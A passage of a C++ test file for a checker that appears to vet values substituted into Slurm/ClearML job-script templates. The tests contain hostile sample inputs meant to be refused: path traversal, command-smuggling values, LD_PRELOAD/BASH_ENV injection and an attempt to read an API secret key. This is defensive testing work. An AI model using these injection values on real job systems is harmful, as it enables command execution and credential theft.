                                      "srun \"${O[@]}\" python3 train.py")),
                       "nvcr.io/nvidia/pytorch:24.01-py3"));
  for (const char* form : {"OPTS=(-l \"%X%\")\nsrun \"${OPTS[@]}\" python3 train.py",
                           "OPTS=(--job-name)\nOPTS+=(\"%X%\")\nsrun \"${OPTS[@]}\" python3 train.py",
                           "SRUN_ARGS=\"--job-name %X%\"\nexport SRUN_ARGS",
                           "SRUN_ARGS=(--job-name \"%X%\")\nSRUN_ARGS=x\nexport SRUN_ARGS",
                           "SRUN_ARGS=(--job-name \"%X%\")\nread SRUN_ARGS < f\nexport SRUN_ARGS"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
}

// fr37/04: jq --arg's value is no file jq reads: "$(date)" there holds no
// file the template wrote (m.json, with the value in it).
TEST(ValueSinks, JqVariablesAreNoFiles) {
  EXPECT_FALSE(refuses(placement(task("jq -n --arg a \"%X%\" --arg d \"$(date)\" '{a: $a, d: $d}' > m.json")), "imagenet-1k"));
  EXPECT_FALSE(rules(task("jq -n --arg a \"%X%\" '{a: $a}' > m.json\njq -r .a \"$(ls -t *.json | head -1)\" > run.sh\nbash run.sh"))
                   .empty());
  // (--arg n --arg: the second --arg is n's value; "$F" is jq's input file.)
  EXPECT_FALSE(rules(task("echo \"%X%\" > notes.txt\njq -r --arg n --arg . \"$F\" > run.sh\nbash run.sh")).empty());
}

// fr37/01: xargs giving what it reads as operands to a command the template
// writes out that only handles files (after its "--") or echo.
TEST(ValueSinks, XargsOperandsOfAFixedCommandAreNoCode) {
  for (const char* form : {"D=\"%X%\"\nfind \"$D\" -name '*.ckpt' -print0 | xargs -0 -r rm -f --",
                           "find \"data/%X%\" -type f -print0 | xargs -0 cat -- | wc -l > n.txt",  // (fr40/07)
                           "ls \"%X%\" | xargs -n1 echo > out.txt"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  // (Round 112) what rm gets meets the rules of a path rm handles; without -0 xargs splits and reads quotes.
  const auto rm = placement(task("echo \"checkpoints/%X%\" | xargs -0 -r rm -rf --"));
  EXPECT_TRUE(refuses(rm, "../../etc"));
  EXPECT_FALSE(refuses(rm, "run_7"));
  // (fr41/03) Without -0, or without "--" last, each is one plain word:
  // xargs splits at blanks and reads quotes, and rm may take it as an option.
  for (const char* form : {"echo \"%X%\" | xargs -r rm -rf --", "echo \"%X%\" | xargs rm -f",
                           "find \"%X%/ckpt\" -name 'step_*' | sort -V | head -n -3 | xargs -r rm -rf"}) {
    const auto pl = placement(task(form));
    EXPECT_TRUE(refuses(pl, "out /")) << form;
    EXPECT_TRUE(refuses(pl, "-rf")) << form;
    EXPECT_TRUE(refuses(pl, "a'b")) << form;
    EXPECT_FALSE(refuses(pl, "outputs/run_7")) << form;
  }
  // (Round 120) Not through a stage that rewrites characters, cuts bytes
  // or prints parts of names, nor from a file.
  for (const char* form : {"echo \"%X%\" | tr ':' '\\n' | xargs -r rm -rf", "echo \"%X%\" | tail -c 4 | xargs rm",
                           "find \"%X%\" -printf '%f\\n' | xargs rm", "echo -e \"%X%\" | xargs rm",
                           "echo \"%X%\" > list.txt\nxargs rm < list.txt", "f() { echo \"%X%\"; }\nf | xargs rm"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  for (const char* form : {"echo \"%X%\" | xargs -I{} rm -f -- {}",
                           "echo \"%X%\" | xargs bash -c --", "echo \"%X%\" | xargs echo | bash",
                           "echo \"%X%\" | xargs $RM --", "echo \"%X%\" | xargs python3 t.py --"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
}

// fr35/01: srun -w "$head_node" names a node list; srun prints what its
// command prints, never that list, so a log the values reach does not
// become srun's output. A file the template writes there holds node names.
TEST(ValueSinks, SrunNodeListsAreNoOutput) {
  const auto pl = placement(task(
      "nodes=( $(scontrol show hostnames \"$SLURM_JOB_NODELIST\") )\nhead=${nodes[0]}\n"
      "export MASTER_ADDR=$(srun --nodes=1 --ntasks=1 -w \"$head\" hostname --ip-address)\nR=\"%X%\"\n"
      "srun torchrun --rdzv_endpoint \"$MASTER_ADDR:29500\" /opt/t.py --run-name \"$R\" 2>&1 | tee out.log"));
  EXPECT_FALSE(refuses(pl, "resnet50-baseline-7"));
  EXPECT_TRUE(refuses(placement(task("echo \"%X%\" > nodes.txt\nsrun -w ./nodes.txt hostname")), "/etc/hosts"));
}

// fr36/08: cp "$0" names the batch script itself (its values written for
// where they stand), no file the template wrote, unless the template reads
// positional parameters (a copy run with a value as $1).
TEST(ValueSinks, TheJobScriptIsNoWrittenFile) {
  const std::string keep = "cp \"$0\" \"$OUT/job_script.sh\"\nscontrol show job \"$SLURM_JOB_ID\" > \"$OUT/job.txt\"\n";
  EXPECT_TRUE(rules("#SBATCH --partition=${CLEARML_TASK.hyperparams.properties.partition.value:gpu}\nOUT=outputs\n" + keep)
                  .empty());
  EXPECT_FALSE(rules("#SBATCH --partition=${CLEARML_TASK.hyperparams.properties.partition.value:gpu}\nOUT=outputs\n" + keep +
                     "eval \"$1\"\nbash \"$OUT/job_script.sh\" \"${CLEARML_TASK.name}\"\n")
                   .empty());
}

// fr38/01, 02, 07: a library's debug file is a path it writes, an
// apptainer bind list holds mounts; TMPDIR_JOB is not TMPDIR.
TEST(ValueSinks, EnvironmentFilesAndMountsAreData) {
  const auto debug = placement(task("R=\"%X%\"\nexport NCCL_DEBUG_FILE=\"logs/$R/nccl.%h.log\""));
  EXPECT_FALSE(refuses(debug, "resnet50-baseline"));
  EXPECT_TRUE(refuses(debug, "../../.bashrc"));
  const auto bind = placement(task("D=\"%X%\"\nexport APPTAINER_BIND=\"/shared/datasets/$D:/data:ro\""));
  EXPECT_FALSE(refuses(bind, "imagenet"));
  EXPECT_TRUE(refuses(bind, "x:/opt/conda,/etc"));
  EXPECT_TRUE(rules(task("R=\"%X%\"\nexport TMPDIR_JOB=\"scratch/$R\"")).empty());
  EXPECT_FALSE(rules(task("export TMPDIR=\"%X%\"")).empty());
}

// fr38/06: mktemp prints the template it is given, its X's made letters
// and digits: the value stays whole, where the template put it.
TEST(ValueSinks, MktempPrintsItsTemplate) {
  const auto after = placement(task("R=\"%X%\"\nW=$(mktemp -d \"/local/scratch/${R}.XXXXXX\")\nrm -rf \"$W\""));
  EXPECT_FALSE(refuses(after, "resnet50-baseline"));
  const auto first = placement(task("R=\"%X%\"\nW=$(mktemp -d \"${R}.XXXXXX\")\nls \"$W\""));
  EXPECT_TRUE(refuses(first, "-la"));
  EXPECT_TRUE(refuses(placement(task("R=\"%X%\"\nW=$(mktemp -p /tmp \"${R}.XXXXXX\")\nls \"$W\"")), "x-y"));
}

// Review 36: jq's fromjson, xargs -e0, parts of "$0", a launcher array
// given twice, srun -J -x, awk -F / -v.
TEST(ValueSinks, ReviewThirtySixShapes) {
  namespace R = sg::render;
  EXPECT_TRUE(placement(task("jq -n --arg p \"%X%\" '{model: ($p|fromjson)}' > conf/config.json"))
                  .roles.has(R::ElementRole::DataField));
  // (-e0 sets an end-of-file string: xargs still splits, so each is a plain word.)
  EXPECT_TRUE(refuses(placement(task("echo \"logs/%X%.done\" | xargs -e0 -r rm -rf --")), "a /b"));
  for (const char* form : {"echo \"%X%\"\nsed -n 's/^.*#[p]y: //p' \"$0\" > out/hook.py\npython3 out/hook.py",
                           "echo \"%X%\" > notes.txt\nL=(python3 t.py --config)\nif [ -f x ]; then L=(python3); fi\n\"${L[@]}\" \"$CFG\"",
                           "echo \"%X%\" > notes.txt\nL=(python3)\n\"${L[@]}\" \"$CFG\"",
                           "echo \"%X%\" > notes.txt\nsrun -J -x python3 -x \"$S\""})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  EXPECT_TRUE(refuses(placement(task("awk -F / -v d=\"%X%\" '{print d}' f > list.txt")), "a\\nb"));
}

// Round 113: a comment or a directive of the rendered script holds its
// value as written; a reader of "$0" other than a whole copy reads them.
TEST(ValueSinks, ReadersOfTheJobScriptReadEveryValue) {
  for (const char* form : {"# CONFIG RUN_NAME=%X%\neval \"$(sed -n 's/^# CONFIG //p' \"$0\")\"",
                           "# @env NAME=%X%\nsource <(sed -n 's/^# @env /export /p' \"$0\")",
                           "#SBATCH --comment=\"%X%\"\nsrun $(grep -oP '(?<=^#SBATCH ).*' \"$0\") python3 t.py",
                           "# CONFIG RUN_NAME=%X%\nshift\neval \"$(sed -n 's/^# CONFIG //p' \"$0\")\""})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
}

// Round 114: files an awk program or inline code writes under a name an
// argument gives, ncat -o, torch.hub.load.
TEST(ValueSinks, ArgumentsNamingWrittenFilesArePaths) {
  for (const char* form : {"awk -v out=\"%X%\" '{ print > out }' data.txt",
                           "python3 - \"%X%\" <<'PY'\nimport sys\nopen(sys.argv[1], 'w').write('x')\nPY",
                           "ncat -l 9000 -o \"%X%\""}) {
    const auto pl = placement(task(form));
    EXPECT_TRUE(refuses(pl, "/home/glue/.bashrc")) << form;
    EXPECT_FALSE(refuses(pl, "outputs/run_7.txt")) << form;
  }
  EXPECT_FALSE(refuses(placement(task("awk -v th=\"%X%\" '$3 > th' data.txt")), "0.5"));
  // (fr40/06: a script's arguments are no code: --save names its output.)
  for (const char* form : {"python3 pretrain_gpt.py --save \"%X%\" --load \"%X%\"", "python3 -u -m tools.convert --save_dir \"%X%\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  for (const char* form : {"python3 -W ignore -c 'import sys; open(sys.argv[1], \"w\")' \"%X%\"",
                           "python3 -c 'import sys; open(sys.argv[1], \"w\")' x.txt \"%X%\""})
    EXPECT_TRUE(refuses(placement(task(form)), "/home/glue/.bashrc")) << form;
  // (A file of code it names may get any of them: attack 154.)
  EXPECT_TRUE(refused(task("python3 -c 'import sys; open(sys.argv[1], \"w\")' x.py \"%X%\""), "value-parsed-as-code"));
  EXPECT_FALSE(rules(task("python3 -c 'import sys, torch; torch.hub.load(sys.argv[1], \"resnet50\")' \"%X%\"")).empty());
}

// fr39/04: awk prints what the template exported only where its program
// reads the environment, runs commands or reads files, or is not written out.
TEST(ValueSinks, AwkPrintsTheEnvironmentOnlyWhereItsProgramReadsIt) {
  const std::string head = "export RUN=\"%X%\"\n";
  for (const char* line : {"H=$(scontrol show hostnames \"$SLURM_JOB_NODELIST\" | awk 'NR==1')\nsrun -w $H hostname",
                           "IP=$(getent hosts \"$H\" | awk '{print $1}')\nping -c1 $IP"}) {
    const auto pl = placement(task(head + line));
    EXPECT_FALSE(refuses(pl, "resnet50 baseline (lr=0.1)")) << line;
  }
  for (const char* line : {"H=$(awk 'BEGIN{print ENVIRON[\"RUN\"]}')\nsrun -w $H hostname",
                           "H=$(awk 'BEGIN{system(\"env\")}')\nsrun -w $H hostname",
                           "H=$(awk -f prog.awk)\nsrun -w $H hostname", "P='NR==1'\nH=$(awk \"$P\" f)\nsrun -w $H hostname",
                           // (review 37: mawk's -W exec, the environment's file through a glob)
                           "H=$(awk -W exec name.awk)\nsrun -w $H hostname", "H=$(awk -We name.awk)\nsrun -w $H hostname",
                           "H=$(awk -F= '{print $2}' /proc/self/env*)\nsrun -w $H hostname"})
    EXPECT_FALSE(rules(task(head + line)).empty()) << line;
  // fr40/08: "system" in a string is text; a '"' in a comment or a
  // regular expression starts no string.
  EXPECT_TRUE(rules(task("awk -v name=\"%X%\" 'BEGIN{print \"system\", name}'")).empty());
  for (const char* form : {"awk -v n=\"%X%\" '/\"/ { system(\"echo \" n) }' f", "awk -v n=\"%X%\" '# \"\n{ system(\"echo \" n) }' f",
                           "awk -v n=\"%X%\" 'BEGIN { print \"x\" | \"sh\" }'",
                           "gawk -v n=\"%X%\" 'BEGIN { run = \"system\"; @run(\"echo \" n) }'"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
}

// Round 117: Spark's scripts add its ports in arithmetic and pass them
// unquoted (a quantity: a number and a unit); deepspeed's multi-node
// runners forward NCCL_*, PYTHON*, MLFLOW_* ... through a remote shell's
// export line or srun's --export list, unquoted.
TEST(ValueSinks, LaunchersThatReadTheirEnvironmentAgain) {
  const auto spark = placement(task("export SPARK_WORKER_PORT=\"%X%\"\n\"$SPARK_HOME/sbin/start-worker.sh\" spark://h:7077"));
  for (const char* bad : {"7078 + i--", "7077 --host 0.0.0.0", "i", "-1", "1.5.2g"}) EXPECT_TRUE(refuses(spark, bad)) << bad;
  for (const char* good : {"7078", "64g", "1.5T"}) EXPECT_FALSE(refuses(spark, good)) << good;
  for (const char* form : {"export NCCL_DEBUG=\"%X%\"\ndeepspeed --hostfile hosts train.py",
                           "export MLFLOW_RUN_NAME=\"%X%\"\nsrun deepspeed train.py",
                           "export PYTHONHASHSEED=\"%X%\"\npython3 -m deepspeed.launcher.runner train.py",
                           "export NCCL_DEBUG=\"%X%\"\naccelerate launch --use_deepspeed train.py"}) {
    const auto pl = placement(task(form));
    EXPECT_TRUE(refuses(pl, "INFO; touch x")) << form;
    EXPECT_TRUE(refuses(pl, "a,LD_PRELOAD=/x.so")) << form;
    EXPECT_FALSE(refuses(pl, "0")) << form;
  }
  // Round 118: .deepspeed_env's lines, mpirun --mca's values (as
  // OMPI_MCA_*), torchrun --rdzv_conf's comma list, conda's stored variables.
  for (const char* form : {"echo \"WANDB_NAME=%X%\" > .deepspeed_env\ndeepspeed --hostfile h train.py",
                           "torchrun --nnodes 2 --rdzv_conf \"join_timeout=%X%\" train.py",
                           "conda env config vars set -n train WANDB_NAME=\"%X%\"\nconda activate train"})
    EXPECT_TRUE(refuses(placement(task(form)), "900,is_host=true;x' y")) << form;
  EXPECT_TRUE(refused(task("mpirun --mca mca_base_env_list \"A=%X%\" -np 2 python3 x.py"), "value-parsed-as-code"));
  EXPECT_FALSE(refuses(placement(task("torchrun --nnodes 2 --rdzv_conf \"join_timeout=%X%\" train.py")), "900"));
  // Round 119: ssh's kin and the runners put before it.
  for (const char* form : {"sshpass -e ssh n1 python3 /opt/p.py --name \"%X%\"", "torify ssh n1 echo \"%X%\"",
                           "autossh -M 0 n1 echo \"%X%\"", "rsh n1 echo \"%X%\"", "slogin n1 echo \"%X%\"",
                           "dbclient n1 echo \"%X%\"", "xdsh compute echo \"%X%\"", "gcloud compute ssh vm1 -- echo \"%X%\"",
                           "gcloud compute ssh vm1 --ssh-flag=\"-o User=%X%\" --command=hostname"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // fr41/04, fr29/10: jq -n's JSON starts with the filter's own character.
  for (const char* form : {"curl -s --data \"$(jq -n --arg t \"job $SLURM_JOB_ID (%X%) done\" '{text: $t}')\" https://h/x",
                           "N=\"%X%\"\ncurl -s --data \"$(jq -n --arg t \"$N\" '{text: $t}')\" https://h/x"})
    EXPECT_FALSE(refuses(placement(task(form)), "resnet50 baseline (lr=0.1)")) << form;
  EXPECT_TRUE(refuses(placement(task("N=\"%X%\"\ncurl -s --data \"$(jq -rn --arg t \"$N\" '$t')\" https://h/x")),
                      "x.y z"));
  // Round 120 and review 38: job clients' lists and submit lines, deepspeed's
  // other names, ssh's kin, awk's ARGV and SYMTAB, xargs -d.
  for (const char* form : {"qsub -v \"RUN=%X%\" job.sh", "bsub -env \"all,RUN=%X%\" ./job.sh",
                           "torchx run -s slurm dist.ddp --env RUN=%X% -j 1x8 --script train.py"})
    EXPECT_TRUE(refuses(placement(task(form)), "x,BASH_ENV=/tmp/e.sh")) << form;
  for (const char* form : {"condor_submit -append \"arguments = --run %X%\" job.sub", "ds --hostfile h train.py --name \"%X%\"",
                           "ds_ssh python3 r.py --name \"%X%\"", "qrsh -now no echo \"%X%\"", "blaunch n1 echo \"%X%\"",
                           "export RUN=\"%X%\"\nawk 'BEGIN { ARGV[1] = \"/proc/self/environ\"; ARGC = 2 } { print }' > v.sh\n. ./v.sh",
                           "printf '%s' \"%X%\" | xargs -d : touch --", "ray job submit --submission-id=run-1 \"%X%\" -- python3 x.py"})
    EXPECT_FALSE(rules(task(form)).empty() && !refuses(placement(task(form)), "a b")) << form;
  EXPECT_TRUE(refuses(placement(task("export NCCL_DEBUG=\"%X%\"\naccelerate launch --config_file zero3.yaml train.py")), "INFO; x"));
  // Round 121: a compiler's flags through cmake -D, Xvfb's split arguments,
  // a shell named by a default, socat's addresses, SQL over files.
  for (const char* form : {"cmake -S . -B b -DCMAKE_CXX_FLAGS=\"-march=%X%\"", "\"${SHELL:-/bin/bash}\" -c \"echo %X%\"",
                           "socat TCP-LISTEN:9000 EXEC:\"python3 s.py --name %X%\"",
                           "clickhouse-local --query \"SELECT '%X%'\"", "csvsql --query \"select '%X%'\" d.csv"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(refuses(placement(task("xvfb-run -s \"-screen 0 %X%x1080x24\" python3 r.py")), "1920 -ac"));
  // Round 122: bazel's compiler options; papermill's parameters (a cell's text).
  EXPECT_TRUE(refused(task("bazel build //ops:all --copt=%X%"), "value-parsed-as-code"));
  const auto notebook = placement(task("papermill in.ipynb out.ipynb -p run_name \"%X%\""));
  EXPECT_TRUE(refuses(notebook, "$(run(`id`))"));
  EXPECT_FALSE(refuses(notebook, "resnet50 baseline (lr=0.1)"));
  EXPECT_TRUE(rules(task("\"${PY:-/usr/bin/python3}\" train.py --name \"%X%\"")).empty());
  // fr41/02: ray job submit's entrypoint follows "--"; its id is data.
  EXPECT_TRUE(rules(task("ray job submit --submission-id \"%X%\" -- python3 /opt/site/x.py")).empty());
  for (const char* form : {"ray job submit --working-dir \"%X%\" -- python3 x.py", "ray job submit -- python3 x.py \"%X%\"",
                           "ray job submit --submission-id \"%X%\" python3 x.py"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // (Without deepspeed, a run's name is free text.)
  EXPECT_FALSE(refuses(placement(task("export MLFLOW_RUN_NAME=\"%X%\"\ntorchrun train.py")), "resnet50 baseline (lr=0.1)"));
}

// fr40/03: a model's name after its organisation (${M##*/}) names a
// directory: what is left after the last '/' is checked as the path's
// component, exactly.
TEST(ValueSinks, WhatIsLeftAfterTheLastMatchIsCheckedExactly) {
  const auto last = placement(task("M=\"%X%\"\nN=${M##*/}\nmkdir -p \"/scratch/$N\"\ncd \"/scratch/${N}\""));
  EXPECT_FALSE(refuses(last, "meta-llama/Llama-3.1-8B"));
  EXPECT_FALSE(refuses(last, "resnet50"));
  for (const char* hostile : {"org/..", "org/.bashrc", "a/b/.ssh", ".."}) EXPECT_TRUE(refuses(last, hostile)) << hostile;
  // A letter may be the second byte of a GBK or Big5 character, where bash
  // would match elsewhere: any part may come first.
  EXPECT_TRUE(placement(task("M=\"%X%\"\nbash \"${M##*a}\"")).roles.cut().anywhere);
  // Attack 124 fr-02: the cut begins an argument: what it makes may not
  // start an option; the rest of the value may hold '-'.
  const auto arg = placement(task("M=\"%X%\"\npython3 train.py --run-name \"${M##*/}\""));
  EXPECT_FALSE(arg.context.dash_anywhere);
  EXPECT_FALSE(refuses(arg, "meta-llama/Llama-3.1-8B"));
  for (const char* hostile : {"org/-c", "org/@args.txt", "-c"}) EXPECT_TRUE(refuses(arg, hostile)) << hostile;
  // Attack 124 fr-01: a port cut from an endpoint reaches arithmetic: what
  // the cut makes is the integer.
  const auto port = placement(task("EP=\"%X%\"\nPORT=${EP##*:}\nexport MASTER_PORT=$(( PORT + 1 ))"));
  EXPECT_FALSE(refuses(port, "gpu-node01:29500"));
  for (const char* hostile : {"h:x[$(id)]", "h:PORT", "h:1+1", "h:08", "29500x", "h:"})
    EXPECT_TRUE(refuses(port, hostile)) << hostile;
  // Attack 128 fr-01: the cut written inside the arithmetic.
  const auto inside = placement(task("EP=\"%X%\"\n(( ${EP##*:} > 1024 )) && echo ok"));
  EXPECT_FALSE(refuses(inside, "node1.cluster:29500"));
  for (const char* hostile : {"h:x[$(id)]", "h:PORT", "h:1+1"}) EXPECT_TRUE(refuses(inside, hostile)) << hostile;
  // Attack 128 fr-02: declare -i evaluates what the cut makes where it is
  // written (the integer variable then holds a number), and a later
  // assignment's ${NAME...} is the name's value, not a name evaluated.
  for (const char* form : {"EP=\"%X%\"\ndeclare -i NEXT=${EP##*:}+1", "EP=\"%X%\"\nPORT=${EP##*:}\ndeclare -i N=$PORT+1",
                           "EP=\"%X%\"\ndeclare -i N\nN=${EP##*:}"}) {
    const auto pl = placement(task(form));
    EXPECT_FALSE(refuses(pl, "node1.cluster:29500")) << form;
    for (const char* hostile : {"h:x[$(id)]", "h:PORT", "h:1+1"}) EXPECT_TRUE(refuses(pl, hostile)) << form << hostile;
  }
  // The whole value, or the value again through $(...), stays an integer.
  for (const char* form : {"EP=\"%X%\"\ndeclare -i N=${EP}", "EP=\"%X%\"\ndeclare -i N=${EP##*:}+$(echo $EP)",
                           "EP=\"%X%\"\ndeclare -i N=${#EP}+$(echo $EP)", "EP=\"%X%\"\ndeclare -i N=${X:-EP}"}) {
    const auto pl = placement(task(form));
    EXPECT_TRUE(pl.context.quoting == sg::render::Quoting::Arithmetic || refuses(pl, "node1.cluster:29500")) << form;
  }
  // A length is a number whatever the value.
  EXPECT_FALSE(refuses(placement(task("EP=\"%X%\"\ndeclare -i N=${#EP}+1")), "a b;c:d"));
}

// Attack 123 fr-02: a local operand of rsync or scp is a remote path only
// through a ':' of the value's.
TEST(ValueSinks, ALocalCopyOperandIsSplitOnlyWhenTheValueMakesItRemote) {
  for (const char* form : {"rsync -a \"%X%\" /scratch/", "rsync -a \"%X%/\" \"$TMPDIR/data/\"", "scp \"%X%\" out/"}) {
    const auto pl = placement(task(form));
    EXPECT_FALSE(pl.context.resplit) << form;
    EXPECT_TRUE(pl.context.resplit_if_remote) << form;
    EXPECT_FALSE(refuses(pl, "datasets/imagenet 2012/train")) << form;
    EXPECT_TRUE(refuses(pl, "data/x:y;id")) << form;
    EXPECT_TRUE(refuses(pl, "h:/a b")) << form;
  }
  EXPECT_TRUE(placement(task("R=host\nrsync -a \"$R%X%\" /scratch/")).context.resplit);
  EXPECT_TRUE(placement(task("rsync -a \"%X%:/d\" /scratch/")).context.resplit);
  // Review 39: a file's text substituted into a remote path is split.
  EXPECT_TRUE(refuses(placement(task("echo \"%X%\" > out/name.txt\nscp \"backup:$(cat out/name.txt)\" .")), "a;touch x"));
}

// fr44/01, 02: jq --arg editing the template's JSON files, and yq -i
// setting strenv() strings, encode the value as one string.
TEST(ValueSinks, SerializersEditingTheTemplatesFilesKeepAValueOneString) {
  const std::string value = "Bob's baseline (lr 3e-4), \"a\": [1] \\ #2";
  for (const char* form : {"jq --arg name \"%X%\" '.run_name = $name' ds_config.json > ds_run.json",
                           "jq -c --arg name \"%X%\" --indent 2 '.run_name = $name' a.json b.json > run.json",
                           "RUN_NAME=\"%X%\" yq -i '.trainer.run_name = strenv(RUN_NAME)' conf/config.yaml",
                           "export R=\"%X%\"\nyq -i '.a.b = strenv(R) | .c = strenv(R)' conf/config.yaml"})
    EXPECT_FALSE(refuses(placement(task(form)), value)) << form;
  // Round 126: OmegaConf resolves ${oc.env:...} and ${oc.create:...} in a
  // string of a file Hydra loads, encoded or not.
  for (const char* form : {"jq --arg v \"%X%\" '.model.run_name = $v' conf/base.json > conf/run.yaml",
                           "jq -n --arg v \"%X%\" '{run_name: $v}' > conf/run.yaml",
                           "N=\"%X%\" yq -i '.k = strenv(N)' conf/run.yaml"})
    EXPECT_TRUE(refuses(placement(task(form)), "${oc.env:CLEARML_API_SECRET_KEY}")) << form;
  // Input the value may have made, or output that is not encoded JSON/YAML.
  for (const char* form : {"echo \"%X%\" > in.txt\njq '.a = 1' in.txt > run.json",
                           "echo \"%X%\" | jq '.a = 1' > run.json",
                           "jq --arg n \"%X%\" -r '.a = $n' a.json > run.json",
                           "jq --arg n \"%X%\" '.a = $n' \"$CFG\" > run.json",
                           "N=\"%X%\" yq -i '.a = env(N)' conf/config.yaml",
                           "N=\"%X%\" yq '.a = strenv(N)' conf/config.yaml > run.yaml",
                           "N=\"%X%\" yq -i -o=json '.a = strenv(N)' conf/config.yaml",
                           "N=\"%X%\" yq -i 'strenv(N)' conf/config.yaml"})
    EXPECT_TRUE(refuses(placement(task(form)), value)) << form;
  // Attack 125: the JSON file is a notebook whose cells run, under any
  // name or from standard input, or a script run by name.
  for (const char* form : {"jq --arg lr \"%X%\" '.cells[0].source[1] = \"lr = \" + $lr' base.json > run.json\n"
                           "jupyter nbconvert --to notebook --execute --inplace run.json",
                           "jq --arg lr \"%X%\" '.cells[0].source[1] = $lr' base.json | jupyter nbconvert --stdin --execute --to notebook",
                           "jq --arg lr \"%X%\" '.c = $lr' base.json | jupyter execute -",
                           "jq --arg lr \"%X%\" '.c = $lr' base.json > run.json\npapermill run.json out.ipynb",
                           "cat > run.json <<'EOF'\n{}\nEOF\njq --arg lr \"%X%\" '.c = $lr' base.json > run.json\njupyter execute run.json",
                           "jq --arg n \"%X%\" '.a = $n' base.json > runme\npython3 runme"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // Review 39: other spellings of the runners and of standard input.
  for (const char* form : {"jq --arg lr \"%X%\" '.c = $lr' base.json | jupyter-nbconvert --execute --stdin --to notebook",
                           "jq --arg lr \"%X%\" '.c = $lr' base.json | python3 -m nbconvert --execute --stdin --to notebook",
                           "jq --arg lr \"%X%\" '.c = $lr' base.json | papermill /dev/stdin out.ipynb",
                           "jq --arg lr \"%X%\" '.c = $lr' base.json | jupyter execute /dev/stdin",
                           "jq --arg lr \"%X%\" '.c = $lr' base.json | jupyter-execute /dev/stdin"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
}

// Review 39: hf download's --include chooses which of the repository's
// files land where the job runs code (--local-dir . with train.py).
TEST(ValueSinks, ADownloadsFilePatternsChooseTheTreesCode) {
  EXPECT_TRUE(refused(task("hf download org/m --include \"%X%\" --local-dir .\npython3 train.py"), "value-parsed-as-code"));
  // The repository a value names is the code that runs from the tree.
  EXPECT_TRUE(refused(task("huggingface-cli download \"%X%\" --local-dir models/llama\npython3 models/llama/run.py"),
                      "value-parsed-as-code"));
}

// fr47/01: a logging function's line goes to the job's output when every
// call's does; where a call's output is read on, it is structured text.
TEST(ValueSinks, ALoggingFunctionsLineIsTheJobsOutput) {
  const std::string value = "llama-7b sft: Bob's run, {x}";
  EXPECT_FALSE(refuses(placement(task("run_step() { echo \"[$(date)] step: $1\"; }\nrun_step \"%X%\"")), value));
  for (const char* form : {"f() { echo \"[$(date)] step: $1\"; }\nX=$(f \"%X%\")\npython3 t.py --cfg \"$X\"",
                           "f() { echo \"[$(date)] step: $1\"; }\nf \"%X%\" | python3 t.py",
                           "f() { echo \"[$(date)] step: $1\"; }\nf \"%X%\" > steps.yaml",
                           "f() { echo \"[$(date)] step: $1\"; }\nexport -f f\nf \"%X%\""})
    EXPECT_TRUE(refuses(placement(task(form)), value)) << form;
}

// Round 127: Hydra joins --config-name to its config directory unchecked,
// so a value there chooses the file whose _target_s run.
TEST(ValueSinks, HydrasConfigNameIsAFileOfConfiguration) {
  for (const char* form : {"python3 train.py --config-name \"%X%\"", "srun python3 train.py -cn %X%",
                           "python3 train.py --config-name=%X%"}) {
    const auto pl = placement(task(form));
    EXPECT_FALSE(refuses(pl, "sweeps/exp_lr1")) << form;
    for (const char* hostile : {"/tmp/x/exp", "../../../tmp/x/exp", "~/exp"}) EXPECT_TRUE(refuses(pl, hostile)) << form << hostile;
  }
  // As words of a |words value after the script.
  const auto words = placement("#!/bin/bash\npython3 train.py ${CLEARML_TASK.name|words}\n${CLEARML_AGENT_EXECUTE}\n");
  for (const char* option : {"-cn", "--config-name=/tmp/x", "-cd", "--flagfile=/tmp/f", "--config-nam=/x", "--config-p=/x",
                             "--experimental-r=/x.pickle"})
    EXPECT_NE(words.roles.check(option), nullptr) << option;
  EXPECT_EQ(words.roles.check("lr=0.1"), nullptr);
}

// Round 128: a trap's function runs between any two commands of the
// shell, with the shell's standard output of that moment.
TEST(ValueSinks, ATrapHandlerPrintsWhereTheShellsOutputGoes) {
  for (const char* form : {"note() { echo \"preempted: %X%\"; }\ntrap note USR1\nexec 3>&1 > resume.sh\necho 'cd x'\n"
                           "exec 1>&3 3>&-\nbash resume.sh",
                           "log_done() { echo \"finished %X%\"; }\n(\n  trap log_done EXIT\n  exec > post.sh\n  echo 'echo a'\n)\nbash post.sh",
                           "banner() { echo \"task %X%\"; }\nw() {\n  trap banner RETURN\n  echo 'echo 1'\n}\nw > steps.sh\nbash steps.sh",
                           "warn() { echo \"warning %X%\"; }\ntrap 'warn' ERR\n{ echo 'echo a'; false; } > cmds.sh\nbash cmds.sh"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // Where the shell's output is the job's log, the handler only logs.
  EXPECT_TRUE(rules(task("cleanup() { echo \"done: %X%\"; }\ntrap cleanup EXIT\npython3 train.py > train.log")).empty());
}

// Attack 129: under set -x every command is traced, [[ ]] unquoted, to the
// shell's standard error or BASH_XTRACEFD: a file those are sent to holds
// the values.
TEST(ValueSinks, ATraceOfTheShellHoldsEveryValue) {
  for (const char* form : {"exec 7>steps.sh\nBASH_XTRACEFD=7\nPS4=''\nset -x\nM=\"%X%\"\n[[ $M == d ]] && echo d\nset +x\nbash steps.sh",
                           "set -x\nexec 2>trace.sh\n[[ -n \"%X%\" ]]\nsource trace.sh",
                           "set -euxo pipefail\n{ [[ -n \"%X%\" ]]; } 2> t.sh\nbash t.sh",
                           "set -o xtrace\nexec &> replay.sh\necho \"%X%\"\nbash replay.sh"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // A trace that is only a log.
  EXPECT_TRUE(rules(task("set -x\nexec 2>>trace.log\n[[ -n \"%X%\" ]] && echo ok\ntail trace.log")).empty());
  // Without tracing too, the shell's standard error holds its own messages,
  // which quote nothing (attack 130: type "$V" prints "type: VALUE: not found").
